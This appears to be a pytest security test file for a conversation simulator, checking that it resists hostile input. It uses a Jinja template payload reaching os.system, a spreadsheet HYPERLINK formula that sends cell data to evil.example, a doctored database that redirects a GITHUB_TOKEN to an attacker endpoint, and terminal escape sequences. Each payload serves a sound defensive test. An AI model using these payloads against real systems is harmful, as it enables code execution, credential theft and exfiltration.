"""Hostile input: doctored databases, credentials in URLs, model output that drives a terminal or a spreadsheet,
prompt templates that try to run code (issue 24, items 9-13)."""

from __future__ import annotations

import json

import csv
import subprocess
import sys

import pytest
from stub_server import StubServer

from evaluations.analysis.frame import export
from simulator.conversation.prompts import Prompts
from simulator.core.errors import UserError
from simulator.runs.batch import run_grid
from simulator.storage.store import Store


def test_a_prompt_template_cannot_reach_python_internals(tmp_path):
    marker = tmp_path / "pwned"
    (tmp_path / "x.j2").write_text("Hi {{ lipsum.__globals__['os'].system('touch " + str(marker) + "') }}")
    with pytest.raises(UserError, match=r"x.j2: .*sandbox"):
        Prompts((tmp_path,)).render("x")
    assert not marker.exists()
    (tmp_path / "y.j2").write_text("{% for n in names %}{{ n | upper }}{% if not loop.last %}, {% endif %}{% endfor %}")
    assert Prompts((tmp_path,)).render("y", names=["a", "b"]) == "A, B"  # ordinary templates render as before


async def test_csv_export_neutralises_formula_cells(tmp_path):
    db = tmp_path / "n.db"
    with StubServer() as url:
        run_id = await run_grid({"personas": "aloof", "max_turns": 1, "judges": 0}, db=db, base_url=url,
                                run_id='=HYPERLINK("http://evil.example/?"&A1,"open")')
    export(run_id, db, "csv", tmp_path / "e.csv")
    with open(tmp_path / "e.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert rows[0]["run_id"] == "'" + run_id  # a spreadsheet shows it as text, never evaluates it
    assert rows[0]["rep"] == "0" and rows[0]["persona"] == "aloof"  # numbers and plain text untouched
    cells = [v for row in rows for v in row.values()]
    assert not [v for v in cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")]


def _made_on(tmp_path, home: str):
    from test_run_settings import nextstep

    db = tmp_path / "n.db"
    made = nextstep("batch", "--personas", "aloof", "--max-turns", "2", "--judges", "0", "--run-id", "r", "--base-url", home,
                    "--db", str(db))
    assert made.returncode == 0, made.stderr
    return db


def _doctor(db, elsewhere: str, *, forget: bool = True) -> None:
    """Run r's stored settings edited to send the key named GITHUB_TOKEN to `elsewhere`; with `forget`, its episodes
    gone, so a resume calls the endpoint again."""
    import json

    with Store(db) as store:
        spec = json.loads(store.conn.execute("SELECT spec_json FROM runs WHERE id = 'r'").fetchone()[0])
        spec["run_settings"] |= {"base_url": elsewhere, "api_key_env": "GITHUB_TOKEN"}
        store.conn.execute("UPDATE runs SET spec_json = ? WHERE id = 'r'", (json.dumps(spec),))
        if forget:
            store.conn.execute("DELETE FROM episodes")


SECRETS = {"GITHUB_TOKEN": "ghp-secret", "OPENAI_API_KEY": "sk-default", "MY_KEY": "sk-mine"}


def test_a_doctored_database_cannot_send_a_secret_to_its_own_endpoint(tmp_path):
    from test_branch import keep_talking
    from test_run_settings import nextstep

    home, evil = StubServer(fault=keep_talking), StubServer(fault=keep_talking)
    with home as home_url, evil as evil_url:
        db = _made_on(tmp_path, home_url)
        made = len(home.requests)
        _doctor(db, evil_url)
        resumed = nextstep("batch", "--resume", "r", "--db", str(db), env=SECRETS)
        assert resumed.returncode == 0, resumed.stderr
        assert evil.requests and set(evil.authorizations) <= {None, "Bearer none"}  # the stored endpoint, with no key
        assert evil_url in resumed.stderr and "no API key" in resumed.stderr  # named, before its first call

        _doctor(db, evil_url)
        evil.requests.clear(), evil.authorizations.clear()
        given = nextstep("batch", "--resume", "r", "--db", str(db), "--base-url", home_url, env=SECRETS)
        assert given.returncode == 0, given.stderr
        assert evil_url in given.stderr and home_url in given.stderr  # the stored endpoint that differs is named
        assert not evil.requests and set(home.authorizations[made:]) == {"Bearer sk-default"}

        _doctor(db, evil_url)
        named = nextstep("batch", "--resume", "r", "--db", str(db), "--api-key-env", "MY_KEY", env=SECRETS)
        assert named.returncode == 0, named.stderr
        assert set(evil.authorizations) == {"Bearer sk-mine"}  # the key the user named, to the endpoint named on screen

        _doctor(db, evil_url, forget=False)
        evil.requests.clear(), evil.authorizations.clear()
        branched = nextstep("branch", "r", "--at", "2", "--strategy", "turn_back", "--reps", "1", "--judges", "0",
                            "--db", str(db), env=SECRETS)
        assert evil_url in branched.stderr and evil.requests and set(evil.authorizations) <= {None, "Bearer none"}
        evil.requests.clear(), evil.authorizations.clear()
        branched = nextstep("branch", "r", "--at", "2", "--strategy", "no_ask", "--reps", "1", "--judges", "0",
                            "--api-key-env", "MY_KEY", "--db", str(db), env=SECRETS)
        assert branched.returncode == 0, branched.stderr
        assert set(evil.authorizations) == {"Bearer sk-mine"}  # branch takes the key's variable from the user too
    assert not [a for a in home.authorizations + evil.authorizations if a and "ghp-" in a]


def test_a_password_in_base_url_is_never_printed(tmp_path):
    from test_run_settings import nextstep

    result = nextstep("run", "--judges", "0", "--base-url", "http://me:hunter2@127.0.0.1:9/v1", "--out", str(tmp_path))
    assert result.returncode == 2 and "unreachable" in result.stderr, result.stderr
    assert "hunter2" not in result.stderr + result.stdout and "me:***@127.0.0.1:9" in result.stderr


def test_a_key_the_endpoint_echoes_is_redacted_from_errors_logs_and_the_store(tmp_path):
    from test_run_settings import nextstep

    key = "sk-live-0123456789abcdef"

    def echo(n, body):  # as some servers do: the key sent, quoted back in a 401 and in a 500 (the preflight passes)
        if '"preflight"' in json.dumps(body):
            return None
        status = 401 if n % 2 else 500
        return status, {}, {"error": {"message": f"Incorrect API key provided: {stub.authorizations[n]}; see ?api_key={key}"}}

    stub = StubServer(fault=echo)
    with stub as url:
        result = nextstep("batch", "--personas", "aloof", "--max-turns", "1", "--judges", "0", "--run-id", "k",
                          "--api-key-env", "MY_KEY", "--base-url", url, "--db", str(tmp_path / "n.db"), env={"MY_KEY": key})
    assert stub.authorizations[0] == f"Bearer {key}"  # it was sent, and came back
    with Store(tmp_path / "n.db") as store:
        [episode] = store.episodes("k")
    assert episode.status == "failed" and "Incorrect API key provided" in episode.error and "***" in episode.error
    stored = b"".join(f.read_bytes() for f in tmp_path.glob("n.db*"))
    assert key not in result.stderr + result.stdout and key.encode() not in stored, result.stderr


HOSTILE = "Hi\x1b]0;pwned\x07\x1b[2J there \u202eevil\u202c\x9b31m"  # sets the title, clears the screen, flips text


def _hostile_lines(n, body):
    """Dialogue with terminal control and bidi characters in it; structured answers as usual."""
    from stub_server import completion

    return None if body.get("response_format") else (200, {}, completion(body, HOSTILE))


def _assert_escaped(out: str) -> None:
    assert not [c for c in out if c in "\x1b\x07\x9b\u202e\u202c"], repr(out)
    assert "\\x1b]0;pwned\\x07\\x1b[2J" in out and "\\u202eevil\\u202c" in out, out


def test_model_output_cannot_drive_the_terminal(tmp_path):
    import re

    from test_run_settings import nextstep

    db = str(tmp_path / "n.db")
    with StubServer(fault=_hostile_lines) as url:
        run = nextstep("run", "--judges", "0", "--max-turns", "1", "--base-url", url, "--out", str(tmp_path))
        play = subprocess.run([sys.executable, "-m", "simulator", "play", "--as", "practitioner", "--judges", "0", "--max-turns", "2",
                               "--base-url", url, "--db", db], input="Hello\n\n", capture_output=True, text=True, timeout=120)
    assert run.returncode == 0, run.stderr
    _assert_escaped(run.stdout)
    assert play.returncode == 0, play.stderr
    _assert_escaped(play.stdout)
    episode = re.search(r"saved: episode (\w+)", play.stdout)[1]
    show = nextstep("show", episode, "--db", db)
    assert show.returncode == 0, show.stderr
    _assert_escaped(show.stdout)
    with Store(db) as store:
        assert HOSTILE in [t.text for t in store.episode(episode).turns]  # stored as said: only the display escapes it
